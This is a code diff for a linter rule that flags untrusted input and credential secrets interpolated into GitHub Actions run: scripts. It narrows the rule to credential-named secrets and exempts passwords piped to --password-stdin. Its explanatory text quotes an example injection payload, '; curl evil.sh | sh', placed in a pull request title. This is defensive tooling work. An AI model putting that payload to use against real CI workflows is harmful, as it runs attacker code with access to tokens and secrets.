@@ -12,9 +12,14 @@ const EVENT_FIELD = /\bgithub\.event(?:\.|\[)[\w.[\]'"*-]+/g;
  */
 const SAFE_EVENT_FIELD = /\.(number|id|\w+_id|sha|before|after|run_number|run_attempt|\w+_count|size|draft|merged|private|fork|login)$|^github\.event\.repository\./;
 const INPUT = /\b(?:github\.event\.)?inputs\.([\w-]+)/g;
-const SECRET = /\bsecrets\.[\w-]+|\bsecrets\[/;
-/** A secret named like a credential rather than a location (`AWS_SECRET_ACCESS_KEY`, `API_TOKEN`, not `ECR_REGISTRY`). */
-const CREDENTIAL = /\bsecrets\.[\w-]*(?:KEY|TOKEN|PASSWORD|PASSWD|SECRET|CREDENTIAL|PRIVATE)[\w-]*/i;
+/**
+ * A secret named like a credential rather than a location or a name (`AWS_SECRET_ACCESS_KEY`,
+ * `API_TOKEN`, a kubeconfig; not `ECR_REGISTRY`, `GCP_PROJECT_ID`, `DOCKERHUB_USERNAME`): only a
+ * credential in a script file is worth a word.
+ */
+const CREDENTIAL = /\bsecrets\.[\w-]*(?:KEY|TOKEN|PASSWORD|PASSWD|SECRET|CREDENTIAL|PRIVATE|KUBECONFIG|CERT|(?<![a-z])PAT(?![a-z]))[\w-]*/i;
+/** `echo "${{ secrets.X }}" | docker login --password-stdin`: the documented way to hand a registry its password. */
+const TO_STDIN = /--password-stdin\b/;
 
 function untrustedReference(body: string, safe: ReadonlySet<string>): string | undefined {
   if (/\bgithub\.head_ref\b/.test(body)) return 'github.head_ref';
@@ -72,8 +77,8 @@ export default yamlRule({
   },
   docs: {
     summary: l(
-      'run:(과 github-script의 script:) 안의 ${{ }}가 github.event.*, github.head_ref, inputs.* 같은 외부 입력이나 secrets.*를 직접 넣는 경우를 찾습니다 (boolean/number/choice 입력은 제외).',
-      'Flags ${{ }} inside run: (and github-script script:) that interpolates outside input such as github.event.*, github.head_ref or inputs.*, or secrets.* (boolean/number/choice inputs are fine).',
+      'run:(과 github-script의 script:) 안의 ${{ }}가 github.event.*, github.head_ref, inputs.* 같은 외부 입력이나 자격 증명 시크릿(키, 토큰, 비밀번호)을 직접 넣는 경우를 찾습니다 (boolean/number/choice 입력, 이름·주소 시크릿, --password-stdin으로 넘기는 비밀번호는 제외).',
+      'Flags ${{ }} inside run: (and github-script script:) that interpolates outside input such as github.event.*, github.head_ref or inputs.*, or a credential secret (a key, token or password; boolean/number/choice inputs, secrets holding a name or address and a password piped to --password-stdin are fine).',
     ),
     why: l(
       '${{ }}는 셸이 실행되기 전에 글자 그대로 치환됩니다. PR 제목에 "; curl evil.sh | sh"를 쓰면 그 명령이 러너에서 토큰과 시크릿을 가진 채 실행됩니다. 시크릿을 직접 넣으면 스크립트 파일과 로그에 남을 수 있습니다.',
@@ -97,13 +102,13 @@ export default yamlRule({
   check(context, document) {
     const safe = safeInputs(document);
     const collaborators = inputsFromCollaborators(document);
-    // Secrets in the scripts of one workflow are one thing to move into env:, said once: at the first
-    // credential (a key, token or password), else at the first secret (a registry or cluster name);
-    // so is each input a collaborator types.
-    let firstSecret: Range | undefined;
+    // Credentials in the scripts of one workflow are one thing to move into env:, said once, at the
+    // first (a key, token or password; a registry, project or user name is not worth a word, nor a
+    // password piped to --password-stdin); so is each input a collaborator types.
     let firstCredential: Range | undefined;
     const inputsSaid = new Set<string>();
     const inspect = (script: YNode | undefined) => {
+      const stdinLines = script?.kind === 'scalar' ? script.raw.split('\n').filter((line) => TO_STDIN.test(line)) : [];
       for (const expression of expressions(script)) {
         const reference = untrustedReference(expression.body, safe);
         const input = reference !== undefined && collaborators && /^(?:github\.event\.)?inputs\./.test(reference);
@@ -111,10 +116,7 @@ export default yamlRule({
         if (input) inputsSaid.add(reference);
         if (reference)
           context.report({ range: expression.range, messageId: input ? 'input' : 'untrusted', data: { reference }, severityReason: input ? 'collaboratorInput' : undefined });
-        else if (SECRET.test(expression.body)) {
-          firstSecret ??= expression.range;
-          if (CREDENTIAL.test(expression.body)) firstCredential ??= expression.range;
-        }
+        else if (CREDENTIAL.test(expression.body) && !stdinLines.some((line) => line.includes(expression.body))) firstCredential ??= expression.range;
       }
     };
     for (const job of workflowJobs(document)) {
@@ -123,7 +125,6 @@ export default yamlRule({
         if (/^actions\/github-script@/.test(scalar(at(step, 'uses')) ?? '')) inspect(at(step, 'with.script'));
       }
     }
-    const secret = firstCredential ?? firstSecret;
-    if (secret) context.report({ range: secret, messageId: 'secret', severityReason: 'secret' });
+    if (firstCredential) context.report({ range: firstCredential, messageId: 'secret', severityReason: 'secret' });
   },
 });
